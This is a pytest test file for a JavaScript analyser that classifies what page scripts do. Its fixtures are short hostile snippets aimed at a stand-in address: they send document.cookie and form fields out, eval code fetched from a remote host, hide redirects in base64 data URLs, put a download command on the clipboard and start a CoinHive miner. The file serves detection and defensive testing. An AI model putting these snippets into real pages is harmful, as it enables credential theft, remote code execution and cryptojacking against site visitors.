from __future__ import annotations

import pytest

from pratique.content.javascript.machine import Machine
from pratique.content.javascript.page import unknown


@pytest.mark.parametrize(
    ("path", "tags"),
    [
        ("document.referrer", {"referrer"}),
        ("navigator.userAgent", {"agent"}),
        ("document.cookie", {"cookie"}),
        ("x.responseText", {"remote"}),
        ("document.getElementById(cc_number).value", {"field", "card"}),
        ("document.querySelector(#password).value", {"field", "secret"}),
        ("document.querySelectorAll(input, select)[].value", {"field", "every"}),
        ("document.title", set()),
    ],
)
def test_tags(path, tags):
    assert unknown(path).tags == tags


# `U` stands for an address; an act is its kind, what it is about, and where that came from.
@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("var i=document.createElement('iframe');i.src=U", [("frames", "U", "")]),
        ("var i=new Image();i.src=U+'?'+document.cookie", [("sends", "U?\ufffd", "cookie")]),
        ("var s=document.createElement('script');s.text='location.href=U'", [("leads", "U", "")]),
        (
            "var s=document.createElement('script');s.append('location.href=U')",
            [("leads", "U", "")],
        ),
        (
            "var s=document.createElement('script');"
            "s.src='data:text/javascript;base64,bG9jYXRpb24uaHJlZj1V'",
            [("leads", "U", "")],
        ),
        (
            "var s=document.createElement('script');s.src='data:text/javascript,location.href%3DU'",
            [("leads", "U", "")],
        ),
        (
            "var d=document.createElement('div');d.innerHTML='<img src=\"'+U+'\">'",
            [("sends", "U", "")],
        ),
        (
            "var d=document.createElement('div');d.innerHTML='<form action=\"'+U+'\">'",
            [("sends", "U", "form")],
        ),
        ("var f=document.createElement('form');f.action=U", [("sends", "U", "field")]),
        ("var a=document.createElement('a');a.href=U;a.click()", [("leads", "U", "")]),
        (
            "document.body.innerHTML='<meta http-equiv=refresh content=\"0;url='+U+'\">'",
            [("leads", "U", "")],
        ),
        ("document.forms[0].action=U", [("sends", "U", "every field")]),
        ("document.images[0].src=U", [("sends", "U", "")]),
        ("document.images[0].setAttribute('src',U)", [("sends", "U", "")]),
        ("document.write('<script>location.href=U</'+'script>')", [("leads", "U", "")]),
        ("document.getElementById('x').innerHTML='<embed src='+U+'>'", [("frames", "U", "")]),
        ("location=U", [("leads", "U", "")]),
        ("window.location=U", [("leads", "U", "")]),
        ("location.replace(U)", [("leads", "U", "")]),
        ("location.assign(U)", [("leads", "U", "")]),
        ("top.location.href=U", [("leads", "U", "")]),
        (
            "location.href='javascript:location.href=U'",
            [("leads", "javascript:location.href=U", ""), ("leads", "U", "")],
        ),
        ("window.open(U)", [("opens", "U", "")]),
        ("open(U)", [("opens", "U", "")]),
        ("var x=new XMLHttpRequest();x.open('GET',U);x.send()", [("sends", "U", "")]),
        ("var x=new XMLHttpRequest();x.open('POST',U);x.send('k=1')", [("sends", "U k=1", "")]),
        (
            "var w=new WebSocket(U);w.send('k');w.onmessage=function(e){eval(e.data)}",
            [("sends", "U", ""), ("sends", "U k", ""), ("runs-remote", "\ufffd", "remote")],
        ),
        ("new Worker(U)", [("sends", "U", "")]),
        ("fetch(U,{method:'POST',body:'k=1'})", [("sends", "U k=1", "")]),
        (
            "fetch(U).then(function(r){return r.text()}).then(function(t){eval(t)})",
            [("sends", "U", ""), ("runs-remote", "\ufffd", "remote")],
        ),
        ("navigator.sendBeacon(U,'k')", [("sends", "U k", "")]),
        (
            "$.ajax({url:U,data:'k',success:function(d){eval(d)}})",
            [("sends", "U k", ""), ("runs-remote", "\ufffd", "remote")],
        ),
        ("$.post(U,'k')", [("sends", "U k", "")]),
        (
            "$.get(U,function(d){eval(d)})",
            [("sends", "U", ""), ("runs-remote", "\ufffd", "remote")],
        ),
        ("$.getScript(U)", [("loads", "U", "")]),
        ("$('#a').attr('src',U)", [("sends", "U", "")]),
        ("$('#a').html('<iframe src='+U+'></iframe>')", [("frames", "U", "")]),
        ("importScripts(U)", [("loads", "U", "")]),
        ("import('data:text/javascript,location.href=U')", [("leads", "U", "")]),
        ("navigator.clipboard.writeText('iwr x')", [("copies", "iwr x", "")]),
        ("setTimeout('location.href=U',1)", [("leads", "U", "")]),
        ("setTimeout(function(){location.href=U},1)", [("leads", "U", "")]),
        ("setTimeout`location.href=U`", [("leads", "U", "")]),
        ("document.addEventListener('click',function(){location.href=U})", [("leads", "U", "")]),
        (
            "window.addEventListener('message',function(e){eval(e.data)})",
            [("runs-remote", "\ufffd", "message")],
        ),
        (
            "var d=document.createElement('div');"
            "d.addEventListener('load',function(){location.href=U})",
            [("leads", "U", "")],
        ),
        ("onload=function(){location.href=U}", [("leads", "U", "")]),
        ("window.onload=function(){location.href=U}", [("leads", "U", "")]),
        ("document.onclick=function(){location.href=U}", [("leads", "U", "")]),
        ("new Promise(function(r){location.href=U})", [("leads", "U", "")]),
        ("var x=new FormData(document.forms[0]);fetch(U,{body:x})", [("sends", "U", "field")]),
        (
            "new CoinHive.Anonymous('abcdefghijklmnopqrstuvwxyz123456')",
            [("mines", "CoinHive.Anonymous(abcdefgh…)", "")],
        ),
        ("new CoinHive.Anonymous('short')", []),
        ("localStorage.setItem('k',U)", []),
        ("document.title=U", []),
        ("document.body.insertAdjacentHTML('x','<object data=U>')", []),
    ],
)
def test_acts(script, expected):
    address = "//b.example.net/x"
    found = Machine(f"var U='{address}';{script}", 300_000).acts
    assert [
        (one.kind, one.what.replace(address, "U"), " ".join(sorted(one.tags)))
        for one in found
        if one.kind not in ("runs", "writes")
    ] == expected
